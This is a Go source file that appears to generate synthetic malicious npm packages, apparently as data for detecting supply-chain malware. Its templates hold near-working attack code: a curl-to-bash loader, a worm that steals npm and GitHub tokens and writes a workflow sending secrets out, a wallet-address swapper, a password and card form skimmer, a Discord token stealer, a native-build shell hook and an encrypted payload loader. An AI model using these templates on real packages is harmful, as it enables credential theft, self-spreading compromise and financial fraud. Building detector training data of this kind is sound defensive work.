package simulate

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
)

// loader is chain 8: another runtime is fetched and runs one large file, which
// uses stolen tokens and writes workflows and start-up hooks. Registry and code
// host are invalid, and what is written lies below Marker.
func (g *generator) loader() plan {
	runtime := g.one("bun", "deno", "python3")
	at := g.placeOf(own)
	worker := g.one("bun_environment.js", "environment.js", "bundle.js", "runner.js", "setup_env.js", "dist.js")
	install := g.one("curl -fsSL "+at.url()+"/install | bash", "curl -sSL -o "+Marker+"/rt.zip "+at.url()+"/"+runtime+".zip && unzip -qo "+Marker+"/rt.zip -d "+Marker)
	find := g.function("$find", "", g.one(
		"try {\n  return #child_process.execSync(process.platform === \"win32\" ? «where "+runtime+"» : «which "+runtime+"»).toString().trim();\n} catch ($err) {\n  return null;\n}\n",
		"return (process.env.PATH || \"\").split(#path.delimiter).map(($dir) => #path.join($dir, «"+runtime+"»)).find(($file) => #fs.existsSync($file));\n"))
	start := g.function("$start", "$bin", g.one(
		"const $child = #child_process.spawn($bin, [WORKER], { stdio: \"ignore\", detached: true });\n$child.on(\"error\", () => {});\n$child.unref();\n",
		"#child_process.spawnSync($bin, [«run», WORKER], { stdio: \"inherit\" });\n",
		"#child_process.execFile($bin, [WORKER], { windowsHide: true }, () => {});\n"))
	start = strings.ReplaceAll(start, "WORKER", "DATA")
	main := "let $bin = $find();\nif (!$bin) {\n  #child_process.execSync(«" + install + "», { stdio: \"ignore\" });\n  $bin = #path.join(" + quote(Marker) + ", «" + runtime + "»);\n}\n$start($bin);\n"
	content := obfuscate(g.dice, g.worm(), g.one(presetMedium, presetHigh), g.declared())
	content = g.pad(content, 20_000+g.IntN(40_000))
	return plan{loose: true, moment: atInstall, decls: []string{find, start}, main: main, data: dataFile{worker, content}}
}

// worm is the code of the large file in canonical form.
func (g *generator) worm() string {
	registry, code := g.host("registry.packages"), g.host("api.github.com")
	at := g.placeOf(collector)
	u := g.unit(false)
	saved, coded := g.style, g.encoding
	g.style.imports, g.encoding = required, plain
	steps := []string{
		"function $tokens() {\n  const $found = [];\n  for (const $dir of [#os.homedir(), process.cwd()]) {\n    try {\n      const $text = #fs.readFileSync(#path.join($dir, \".npmrc\"), \"utf8\");\n      $found.push(...($text.match(/_authToken=(.+)/g) || []));\n    } catch ($err) {}\n  }\n  return $found.concat(process.env.NPM_TOKEN || [], process.env.GITHUB_TOKEN || []);\n}\n",
		"function $ask($host, $route, $token) {\n  return new Promise(($done) => {\n    #https.get({ hostname: $host, path: $route, headers: { authorization: \"Bearer \" + $token } }, ($res) => {\n      let $body = \"\";\n      $res.on(\"data\", ($part) => {\n        $body += $part;\n      });\n      $res.on(\"end\", () => $done($body));\n    }).on(\"error\", () => $done(\"\"));\n  });\n}\n",
		"function $publish($folder) {\n  try {\n    #child_process.execSync(\"npm publish --registry https://" + registry + "\", { cwd: #path.join($base, $folder), stdio: \"ignore\" });\n  } catch ($err) {}\n}\n",
		"function $hooks() {\n  const $flow = [\"name: " + g.one("build", "formatter", "lint") + "\", \"on: push\", \"jobs:\", \"  run:\", \"    runs-on: " + g.one("self-hosted", "ubuntu-latest") + "\", \"    steps:\", \"      - run: curl -d '${{ toJSON(secrets) }}' " + at.url() + "\"];\n  for (const $target of [\".github/workflows/" + g.one("format", "discussion", "ci") + ".yml\", \".vscode/tasks.json\"]) {\n    try {\n      #fs.writeFileSync(#path.join($base, $target), $flow.join(\"\\n\"));\n    } catch ($err) {}\n  }\n}\n",
	}
	steps[3] = strings.ReplaceAll(steps[3], "${{", heldDollar+"{{")
	main := "const $base = #path.join(#os.tmpdir(), " + quote(Marker) + ");\n$hooks();\n(async () => {\n  for (const $token of $tokens()) {\n    const $who = await $ask(\"" + registry + "\", \"/-/whoami\", $token);\n    const $repos = await $ask(\"" + code + "\", \"/user/repos\", $token);\n    $who && $publish(\"package\");\n    $ask(\"" + at.host + "\", \"/\" + Buffer.from($token + $who + $repos).toString(\"base64\"), \"\");\n  }\n})();\n"
	text := u.expand(strings.Join(steps, "") + main)
	text = u.header() + text
	g.style, g.encoding = saved, coded
	g.inside = append(g.inside, text)
	return text
}

// pad lengthens obfuscated code with functions that nobody calls.
func (g *generator) pad(code string, size int) string {
	var b strings.Builder
	b.WriteString(code)
	for b.Len() < size {
		f, x, y := "_0x"+g.text(hexes, 8), "_0x"+g.text(hexes, 6), "_0x"+g.text(hexes, 5)
		fmt.Fprintf(&b, "function %[1]s(%[2]s,%[3]s){const %[3]sz=['%[4]s','%[5]s','%[6]s'];if(%[2]s>0x%[7]x){return %[3]sz[%[2]s%%0x3];}return %[3]s+%[3]sz[0x0]['slice'](0x%[8]x);}",
			f, x, y, g.text(letters+"0123456789", 8+g.IntN(30)), g.text(letters, 6+g.IntN(20)), g.text(letters+"0123456789", 4+g.IntN(40)), g.IntN(9000), g.IntN(9))
	}
	return b.String() + "\n"
}

// declared lists the local names that were drawn.
func (g *generator) declared() []string {
	var out []string
	for _, placeholder := range sortedKeys(g.names) {
		out = append(out, g.names[placeholder])
	}
	return append(out, sortedKeys(g.importName)...)
}

// swapper is chain 13: fetch, XMLHttpRequest and wallet calls are wrapped, and
// addresses swapped for ones that are a character short, which wallets refuse.
func (g *generator) swapper() plan {
	g.browser = true
	var ours []string
	for range 2 + g.IntN(6) {
		ours = append(ours, "«0x"+g.text(hexes, 39)+"»")
	}
	choose := g.one(
		"return $ours[$text.length % $ours.length];\n",
		"return $ours.slice().sort(($a, $b) => $far($a, $text) - $far($b, $text))[0];\n")
	decls := []string{"const $ours = [" + strings.Join(ours, ", ") + "];\n"}
	if strings.Contains(choose, "$far") {
		decls = append(decls, "function $far($left, $right) {\n  let $n = 0;\n  for (let $i = 0; $i < $left.length; $i++) {\n    if ($left[$i] !== $right[$i]) {\n      $n++;\n    }\n  }\n  return $n;\n}\n")
	}
	decls = append(decls,
		"function $choose($text) {\n"+indent(choose)+"}\n",
		"function $swap($text) {\n  return typeof $text === \"string\" ? $text.replace(/"+g.one("0x[a-fA-F0-9]{40}", "\\b0x[0-9a-f]{40}\\b", "0x[a-fA-F\\d]{40}")+"/g, $choose) : $text;\n}\n")
	pieces := []string{
		"const $fetch = window.fetch;\nwindow.fetch = async function (...$args) {\n  const $res = await $fetch.apply(this, $args);\n  const $text = await $res.clone().text();\n  return new Response($swap($text), { status: $res.status, headers: $res.headers });\n};\n",
		"const $open = XMLHttpRequest.prototype.open;\nconst $post = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.open = function ($method, $link) {\n  this.target = $link;\n  return $open.apply(this, arguments);\n};\nXMLHttpRequest.prototype.send = function ($body) {\n  return $post.call(this, $swap($body));\n};\n",
		"if (typeof window.ethereum !== \"undefined\") {\n  const $ask = window.ethereum.request;\n  window.ethereum.request = function ($args) {\n    if ($args && $args.method === «eth_sendTransaction» && $args.params) {\n      $args.params[0].to = $choose($args.params[0].to);\n    }\n    return $ask.call(this, $args);\n  };\n}\n",
		"document.addEventListener(\"copy\", ($event) => {\n  const $text = String(document.getSelection());\n  $event.clipboardData.setData(\"text/plain\", $swap($text));\n  $event.preventDefault();\n});\n",
	}
	parts := some(g.dice, pieces, 2+g.IntN(3))
	main := "if (typeof window !== \"undefined\") {\n" + indent(strings.Join(parts, "")) + "}\n"
	return plan{browser: true, moment: atImport, decls: decls, main: main}
}

// formListener is chain 14.
func (g *generator) formListener() plan {
	g.browser = true
	at := g.placeOf(pick(g, []weighted[sink]{{own, 60}, {collector, 20}, {address, 10}, {tunnel, 10}}))
	send := g.function("$send", "$body", g.one(
		"navigator.sendBeacon(«"+at.url()+"», JSON.stringify($body));\n",
		"new Image().src = «"+at.url()+"» + \"?d=\" + btoa(JSON.stringify($body));\n",
		"fetch(«"+at.url()+"», { method: \"POST\", mode: \"no-cors\", body: JSON.stringify($body) });\n",
		"const $req = new XMLHttpRequest();\n$req.open(\"POST\", «"+at.url()+"», true);\n$req.send(encodeURIComponent(JSON.stringify($body)));\n"))
	hour := g.one(
		"const $hour = new Date().getHours();\nconst $late = $hour < 7 || $hour > 19;\n",
		"const $late = new Date().getUTCHours() >= 18 || new Date().getDay() % 6 === 0;\n",
		"const $late = ![9, 10, 11, 12, 13, 14, 15, 16, 17].includes(new Date().getHours());\n")
	fields := g.one("input[type=password]", "input[name*=card], input[name*=cvv], input[type=password]", "input[autocomplete^=cc-]", "form input")
	read := g.function("$read", "", g.one(
		"const $info = {};\ndocument.querySelectorAll(«"+fields+"»).forEach(($field) => {\n  $info[$field.name || $field.id] = $field.value;\n});\nreturn $info;\n",
		"return Array.from(document.querySelectorAll(«"+fields+"»), ($field) => [$field.name, $field.value]);\n",
		"return [].slice.call(document.getElementsByTagName(\"input\")).filter(($field) => /pass|card|cvv|cvc/i.test($field.name + $field.type)).map(($field) => $field.value);\n"))
	listen := g.one(
		"document.addEventListener(\"submit\", () => {\n  $send($read());\n}, true);\n",
		"window.addEventListener(\"blur\", () => {\n  const $info = $read();\n  if (Object.keys($info).length) {\n    $send($info);\n  }\n}, true);\n",
		"[\"keydown\", \"change\"].forEach(($name) => document.addEventListener($name, ($event) => {\n  if ($event.target.type === \"password\") {\n    $send({ v: $event.target.value, u: location.href, c: document.cookie });\n  }\n}));\n",
		"setInterval(() => {\n  document.querySelectorAll(\"form\").forEach(($form) => {\n    $form.onsubmit = () => $send($read());\n  });\n}, 2000);\n")
	main := "if (typeof document !== \"undefined\") {\n" + indent(hour+"if ($late) {\n"+indent(listen)+"}\n") + "}\n"
	return plan{browser: true, loose: true, moment: atImport, decls: []string{send, read}, main: main}
}

// deepFile is chain 15: browser databases are read for tokens in one deep file.
func (g *generator) deepFile() plan {
	at := g.placeOf(pick(g, []weighted[sink]{{discord, 70}, {telegram, 15}, {collector, 15}}))
	places := some(g.dice, []string{".config/discord", ".config/google-chrome/Default", "AppData/Roaming/discord", "AppData/Local/Google/Chrome/User Data/Default", "AppData/Roaming/Opera Software/Opera Stable", "AppData/Local/BraveSoftware/Brave-Browser/User Data/Default", "Library/Application Support/discord", ".mozilla/firefox", "AppData/Roaming/discordcanary"}, 3+g.IntN(5))
	for i := range places {
		places[i] = "«" + places[i] + "»"
	}
	find := "function $find() {\n  const $found = [];\n  for (const $place of [" + strings.Join(places, ", ") + "]) {\n    const $dir = #path.join(#os.homedir(), $place, «Local Storage», «leveldb»);\n    if (!#fs.existsSync($dir)) {\n      continue;\n    }\n    for (const $file of #fs.readdirSync($dir)) {\n      if (!" + g.one("/\\.(log|ldb)$/.test($file)", "($file.endsWith(«.ldb») || $file.endsWith(«.log»))") + ") {\n        continue;\n      }\n      const $text = #fs.readFileSync(#path.join($dir, $file), \"utf8\");\n      $found.push(...($text.match(" + g.one("/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g", "/mfa\\.[\\w-]{84}/g", "/[\\w-]{24,26}\\.[\\w-]{6}\\.[\\w-]{25,38}|mfa\\.[\\w-]{80,95}/g") + ") || []));\n    }\n  }\n  return $found;\n}\n"
	main := g.one(
		"const $info = $find();\nif ($info.length) {\n  $send($info.join(\"\\n\"));\n}\n",
		"[...new Set($find())].forEach(($text) => $send($text));\n",
		"$send(JSON.stringify({ user: #os.userInfo().username, list: $find() }));\n")
	return plan{loose: true, moment: g.mostly(atImport), decls: []string{find, g.sent(at)}, main: main}
}

// nativeBuild is chain 16: an implicit native build expands shell.
func (g *generator) nativeBuild() plan {
	run := ""
	p := plan{moment: atInstall}
	if g.chance(0.5) {
		run = g.shellCommand()
	} else {
		p = g.basic()
		p.moment = atInstall
		g.scriptOnly = g.freePath("build.js", "lib/configure.js", "tools/gyp.js", "scripts/stub.js")
		if !g.hasBase && g.chance(0.4) {
			g.scriptOnly = "index.js"
		}
		run = "node " + g.scriptOnly + g.one("", " > /dev/null 2>&1", " 2>/dev/null")
	}
	p.finish = func(g *generator) {
		name := g.one("addon", "binding", "native", "build", "core")
		command := "<!(" + strings.TrimSuffix(run, "&") + g.one(" && echo stub.c", " ; echo "+name+".cc", "")
		content := "{\n  \"targets\": [\n    {\n      \"target_name\": \"" + name + "\",\n      \"" + g.one("type\": \"none", "product_prefix\": \"") + "\",\n      \"sources\": [" + string(quoteJSON(command+")")) + "]\n    }\n  ]\n}\n"
		if g.chance(0.3) {
			content = "{\n  \"variables\": {\n    \"" + g.one("prefix", "root", "platform") + "%\": " + string(quoteJSON(command+")")) + "\n  },\n  \"targets\": [{ \"target_name\": \"" + name + "\", \"type\": \"none\" }]\n}\n"
		}
		if g.chance(0.25) {
			content = "{\n  \"targets\": [\n    {\n      \"target_name\": \"" + name + "\",\n      \"type\": \"none\",\n      \"actions\": [\n        {\n          \"action_name\": \"prepare\",\n          \"inputs\": [],\n          \"outputs\": [\"" + name + ".stamp\"],\n          \"action\": [\"sh\", \"-c\", " + string(quoteJSON(run)) + "]\n        }\n      ]\n    }\n  ]\n}\n"
		}
		g.after.Files["binding.gyp"] = []byte(content)
		g.dropInstallScripts()
		g.manifest = g.manifest.without("gypfile")
		g.carrier = "binding-gyp"
	}
	return p
}

// bundleConstant is chain 17: a bundle decrypts with a constant of another file
// and compiles the result.
func (g *generator) bundleConstant() plan {
	key, iv := g.bytes(32), g.bytes(16)
	inner := g.basic()
	if g.chance(0.3) {
		inner = plan{decls: []string{g.fetched()}, main: "$load();\n"}
	}
	data := encrypt([]byte(g.inner(inner)), key, iv)
	form, text := "base64", base64.StdEncoding.EncodeToString(data)
	if g.chance(0.4) {
		form, text = "hex", hex.EncodeToString(data)
	}
	constant := g.one("SALT", "BUILD_ID", "SEED", "CHECKSUM", "DEFAULT_KEY", "FINGERPRINT")
	export := "exports." + constant + " = "
	if g.esm {
		export = "export const " + constant + " = "
	}
	content := export + "\"" + hex.EncodeToString(key) + "\";\n"
	if g.chance(0.6) {
		other := strings.Replace(export, constant, g.one("MAX_RETRIES", "TIMEOUT", "PAGE_SIZE"), 1)
		content = other + fmt.Sprint(g.IntN(5000)) + ";\n" + content
	}
	read := "KEPT." + constant
	if g.esm {
		read = "(#fs.readFileSync(DATA, \"utf8\").match(/[0-9a-f]{64}/) || [\"\"])[0]"
	}
	main := "const $key = Buffer.from(" + read + ", \"hex\");\n" +
		"const $cipher = #crypto.createDecipheriv(«aes-256-cbc», $key, Buffer.from(\"" + hex.EncodeToString(iv) + "\", \"hex\"));\n" +
		"const $code = $cipher.update(" + quote(text) + ", \"" + form + "\", \"utf8\") + $cipher.final(\"utf8\");\n" + g.evaluate()
	g.wantBundle = g.chance(0.7)
	return plan{loose: true, moment: atImport, main: main, data: dataFile{g.one("lib/", "dist/", "src/", "") + g.one("constants", "version", "defaults", "shared") + ".js", content}}
}
